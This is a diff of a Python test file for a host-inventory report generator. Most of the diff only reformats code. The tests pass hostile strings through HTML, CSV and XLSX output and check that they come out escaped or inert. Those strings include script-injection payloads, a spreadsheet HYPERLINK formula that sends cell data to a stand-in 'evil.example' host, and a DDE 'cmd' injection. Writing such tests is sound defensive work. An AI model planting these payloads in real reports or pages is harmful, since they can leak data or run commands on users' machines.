@@ -34,7 +34,7 @@ from scanner.store import HostStatus
 HOSTILE = [
     "<script>alert(1)</script>",
     '"><img src=x onerror=alert(2)>',
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1+1)",
@@ -54,34 +54,97 @@ def _estate() -> EstateReport:
     results: list[HostResult] = []
     for i, evil in enumerate(HOSTILE):
         host = Host(hostname=f"{evil}-{i}", machine_id=f"mid-{i}", site=f"Site {evil[:40]}", tags=[evil, "clinical"])
-        inv = Inventory(host=host, os=OsInfo(family="windows", name=evil), hardware=Hardware(cpu_model=evil,
-                        vendor=evil, model=evil, tpm_present=True, tpm_version=evil),
-                        collected_at="2026-11-28T09:00:00Z")
-        detail = MatchDetail(rule=evil, reason=evil, evidence={evil: evil}, dataset_version=evil,
-                             release_label=evil)
+        inv = Inventory(
+            host=host,
+            os=OsInfo(family="windows", name=evil),
+            hardware=Hardware(cpu_model=evil, vendor=evil, model=evil, tpm_present=True, tpm_version=evil),
+            collected_at="2026-11-28T09:00:00Z",
+        )
+        detail = MatchDetail(rule=evil, reason=evil, evidence={evil: evil}, dataset_version=evil, release_label=evil)
         base = {"host_key": f"mid-{i}", "hostname": host.hostname, "site": host.site, "tags": host.tags}
-        os_f = Finding(kind="os", name=evil, version=evil, product="windows", cycle="10-22h2", status=Status.EOL,
-                       eol=date(2025, 10, 14), extended_until=None, detail=detail, product_label=evil, **base)
-        app = Finding(kind="software", name=evil, version=evil, product=evil, cycle=evil, status=Status.EOL,
-                      eol=date(2024, 1, 1), extended_until=None, detail=detail, product_label=evil, **base)
+        os_f = Finding(
+            kind="os",
+            name=evil,
+            version=evil,
+            product="windows",
+            cycle="10-22h2",
+            status=Status.EOL,
+            eol=date(2025, 10, 14),
+            extended_until=None,
+            detail=detail,
+            product_label=evil,
+            **base,
+        )
+        app = Finding(
+            kind="software",
+            name=evil,
+            version=evil,
+            product=evil,
+            cycle=evil,
+            status=Status.EOL,
+            eol=date(2024, 1, 1),
+            extended_until=None,
+            detail=detail,
+            product_label=evil,
+            **base,
+        )
         # an application kept on a paid extended phase: its entitlement's texts come from the catalogue
-        ext = Finding(kind="software", name=evil, version=evil, product=f"p{i}", cycle=evil,
-                      status=Status.EXTENDED, eol=date(2024, 1, 1), extended_until=date(2027, 1, 1), detail=detail,
-                      product_label=evil, **base)
+        ext = Finding(
+            kind="software",
+            name=evil,
+            version=evil,
+            product=f"p{i}",
+            cycle=evil,
+            status=Status.EXTENDED,
+            eol=date(2024, 1, 1),
+            extended_until=date(2027, 1, 1),
+            detail=detail,
+            product_label=evil,
+            **base,
+        )
         results.append(HostResult(inventory=inv, findings=[os_f, app, ext]))
-    prices = tuple(EntitlementPrice(keys=frozenset({f"p{i}"}), name=evil, cost=10.0, unit="device/year",
-                                    yearly=10.0, per_device=i % 2 == 0, currency=evil[:8], reference=evil,
-                                    source=evil) for i, evil in enumerate(HOSTILE))
+    prices = tuple(
+        EntitlementPrice(
+            keys=frozenset({f"p{i}"}),
+            name=evil,
+            cost=10.0,
+            unit="device/year",
+            yearly=10.0,
+            per_device=i % 2 == 0,
+            currency=evil[:8],
+            reference=evil,
+            source=evil,
+        )
+        for i, evil in enumerate(HOSTILE)
+    )
     config = ReportConfig(entitlement_prices=prices, site_catalog=HOSTILE[1], site_catalog_sha256=HOSTILE[2])
-    register = Register(path=HOSTILE[0], entries=[RiskException(
-        id=f"EX-{j}", category="risk-accepted", justification=evil, owner=evil, approver=evil,
-        approved_on=date(2026, 1, 1), expires=date(2027, 1, 1), product=HOSTILE[j],
-        compensating_controls=(evil, evil), manufacturer_ref=evil, risk=evil, notes=evil)
-        for j, evil in enumerate(HOSTILE)])
-    statuses = [HostStatus(target=evil, site=f"Site {evil[:40]}", status="unreachable", error=evil, at=evil,
-                           last_ok_at=evil) for evil in HOSTILE]
-    return build_report(results, statuses, date(2026, 11, 30), HOSTILE[2], HOSTILE[1], register=register,
-                        demo=HOSTILE[0], config=config)
+    register = Register(
+        path=HOSTILE[0],
+        entries=[
+            RiskException(
+                id=f"EX-{j}",
+                category="risk-accepted",
+                justification=evil,
+                owner=evil,
+                approver=evil,
+                approved_on=date(2026, 1, 1),
+                expires=date(2027, 1, 1),
+                product=HOSTILE[j],
+                compensating_controls=(evil, evil),
+                manufacturer_ref=evil,
+                risk=evil,
+                notes=evil,
+            )
+            for j, evil in enumerate(HOSTILE)
+        ],
+    )
+    statuses = [
+        HostStatus(target=evil, site=f"Site {evil[:40]}", status="unreachable", error=evil, at=evil, last_ok_at=evil)
+        for evil in HOSTILE
+    ]
+    return build_report(
+        results, statuses, date(2026, 11, 30), HOSTILE[2], HOSTILE[1], register=register, demo=HOSTILE[0], config=config
+    )
 
 
 @pytest.fixture(scope="module")
@@ -98,12 +161,74 @@ class _Elements(HTMLParser):
         self.tags.append((tag, attrs))
 
 
-ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "div", "header", "main", "footer", "h1", "h2",
-                "h3", "p", "section", "figure", "figcaption", "svg", "rect", "text", "line", "table",
-                "thead", "tbody", "tr", "th", "td", "span", "b", "a", "script", "nav", "ol", "ul", "li"}
-ALLOWED_ATTRS = {"charset", "http-equiv", "content", "name", "lang", "class", "id", "role", "aria-label",
-                 "xmlns", "viewbox", "width", "height", "preserveaspectratio", "x", "y", "x1", "y1", "x2", "y2",
-                 "fill", "stroke", "text-anchor", "scope", "data-type", "data-v", "href", "type", "value"}
+ALLOWED_TAGS = {
+    "html",
+    "head",
+    "meta",
+    "title",
+    "style",
+    "body",
+    "div",
+    "header",
+    "main",
+    "footer",
+    "h1",
+    "h2",
+    "h3",
+    "p",
+    "section",
+    "figure",
+    "figcaption",
+    "svg",
+    "rect",
+    "text",
+    "line",
+    "table",
+    "thead",
+    "tbody",
+    "tr",
+    "th",
+    "td",
+    "span",
+    "b",
+    "a",
+    "script",
+    "nav",
+    "ol",
+    "ul",
+    "li",
+}
+ALLOWED_ATTRS = {
+    "charset",
+    "http-equiv",
+    "content",
+    "name",
+    "lang",
+    "class",
+    "id",
+    "role",
+    "aria-label",
+    "xmlns",
+    "viewbox",
+    "width",
+    "height",
+    "preserveaspectratio",
+    "x",
+    "y",
+    "x1",
+    "y1",
+    "x2",
+    "y2",
+    "fill",
+    "stroke",
+    "text-anchor",
+    "scope",
+    "data-type",
+    "data-v",
+    "href",
+    "type",
+    "value",
+}
 
 
 def test_html_escapes_everything(report: EstateReport) -> None:
@@ -133,7 +258,7 @@ def test_csv_neutralises_formulas(report: EstateReport) -> None:
     for c in cells:
         assert not c.startswith(("=", "+", "-", "@", "\t", "\r")), c[:40]
         assert "\x00" not in c
-    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells
     assert "'+cmd|' /C calc'!A0" in cells and "'@SUM(1+1)" in cells and "'-2+3" in cells
     extended = rows[0].index("extended support")
     assert any(row[extended].startswith("'=HYPERLINK") for row in rows[1:])
@@ -150,7 +275,7 @@ def test_xlsx_reads_back_inert(report: EstateReport) -> None:
                     seen.add(cell.value)
                     assert not cell.value.startswith(("=", "+", "-", "@")), cell.value[:40]
                     assert "\x00" not in cell.value and "\x1b" not in cell.value
-    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in seen
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in seen
     assert any(v.startswith("'+cmd|") for v in seen)
     assert "x" * 5000 in seen and "😀 emoji ✓" in seen
     assert wb["Extended support"].max_row > len(HOSTILE)  # entitlement names and references: inert too
@@ -176,8 +301,15 @@ def test_table_stays_one_line_per_row(report: EstateReport) -> None:
 
 @pytest.mark.parametrize("with_statuses", [False, True])
 def test_empty_estate_renders_in_every_format(with_statuses: bool) -> None:
-    statuses = [HostStatus(target="pc-1", site="North", status="unreachable", error="no route", at="2026-11-28",
-                           last_ok_at="")] if with_statuses else []
+    statuses = (
+        [
+            HostStatus(
+                target="pc-1", site="North", status="unreachable", error="no route", at="2026-11-28", last_ok_at=""
+            )
+        ]
+        if with_statuses
+        else []
+    )
     empty = build_report([], statuses, date(2026, 11, 30), "d", "t")
     assert "nothing to act on" in reports.table.render(empty) or not with_statuses
     assert reports.csv.render(empty).count("\r\n") == 1  # the header only
